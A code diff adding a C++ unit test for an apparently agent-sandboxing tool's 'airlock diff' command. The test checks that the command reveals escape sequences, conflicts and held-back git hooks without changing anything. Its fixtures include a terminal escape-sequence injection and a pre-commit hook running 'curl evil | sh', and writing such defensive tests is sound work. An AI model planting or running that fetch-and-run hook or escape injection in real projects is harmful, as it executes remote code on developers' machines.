@@ -16,6 +16,8 @@
 #include <chrono>
 #include <climits>
 #include <filesystem>
+#include <map>
+#include <set>
 #include <sstream>
 
 #include <gtest/gtest.h>
@@ -226,6 +228,51 @@ TEST_F(SessionReview, GitMetadataStaysInTheSessionWithoutMakingTheRunPending) {
   EXPECT_EQ(readAll(workspace + "/.git/index"), "host index\n");
   EXPECT_EQ(r.err.find("pending"), std::string::npos) << r.err;
   EXPECT_TRUE(fs::exists(session + "/pending/changes.tar")) << "git metadata is kept for the git integration";
+}
+
+// `airlock diff` of an ended session shows what its review will: the
+// table, each patch with the agent's escape sequences made visible, a host
+// edit since the snapshot as a conflict and a git hook as held back; it
+// changes nothing (no flush, no record, no staging left), and after a
+// review it shows what is still pending.
+TEST_F(SessionReview, DiffShowsWhatTheReviewWillAndChangesNothing) {
+  writeFile(workspace + "/edited.txt", "base\n");
+  runLeftChanges({{"file.txt", 'f', "agent line \x1b]0;pwned\x07\x1b[2J\n"},
+                  {"edited.txt", 'f', "agent\n"},
+                  {".husky/pre-commit", 'f', "curl evil | sh\n", "", 0755}});
+  writeFile(workspace + "/edited.txt", "host edit\n");
+  auto before = ws::test::treeListing(session);
+  auto text = airlock({"diff", kId, "--color=never"}, elsewhere);
+  ASSERT_EQ(text.exitCode, 0) << text.err;
+  EXPECT_NE(text.out.find("+agent line"), std::string::npos) << text.out;
+  EXPECT_EQ(text.out.find('\x1b'), std::string::npos) << "an escape sequence reached the terminal";
+  EXPECT_NE(text.out.find("@@"), std::string::npos);
+  auto json = airlock({"diff", kId, "--json"}, elsewhere);
+  ASSERT_EQ(json.exitCode, 0) << json.err;
+  auto j = nlohmann::json::parse(json.out);
+  EXPECT_EQ(j["running"], false);
+  std::map<std::string, nlohmann::json> items;
+  for (const auto& item : j["items"]) items[item["path"]] = item;
+  EXPECT_EQ(items["edited.txt"]["conflict"], true) << j.dump();
+  EXPECT_EQ(items[".husky/pre-commit"]["held_back"], true) << j.dump();
+  EXPECT_EQ(items["file.txt"]["control_characters"], true) << j.dump();
+  auto stat = airlock({"diff", kId, "--stat"}, elsewhere);
+  EXPECT_NE(stat.out.find("file.txt"), std::string::npos);
+  EXPECT_EQ(stat.out.find("@@"), std::string::npos) << "--stat printed patches";
+  EXPECT_EQ(readAll(workspace + "/file.txt"), "original\n");
+  EXPECT_EQ(ws::test::treeListing(session), before) << "diff changed the session";
+
+  ASSERT_EQ(airlock({"review", kId, "--review=auto"}, elsewhere).exitCode, 71);
+  auto pending = nlohmann::json::parse(airlock({"diff", kId, "--json"}, elsewhere).out);
+  std::set<std::string> left;
+  for (const auto& item : pending["items"]) left.insert(item["path"]);
+  EXPECT_EQ(left, (std::set<std::string>{".husky/pre-commit", "edited.txt"})) << pending.dump();
+  writeFile(workspace + "/edited.txt", "agent\n");
+  ASSERT_EQ(airlock({"review", kId, "--review=all"}, elsewhere).exitCode, 0);
+  auto none = airlock({"diff", kId}, elsewhere);
+  EXPECT_EQ(none.exitCode, 0) << none.err;
+  EXPECT_EQ(none.out, std::string("no changes in session ") + kId + " to review\n");
+  EXPECT_EQ(airlock({"diff", "no-such-session"}, elsewhere).exitCode, 64);
 }
 
 // Attack: a change set flushed a look-alike session directory into the
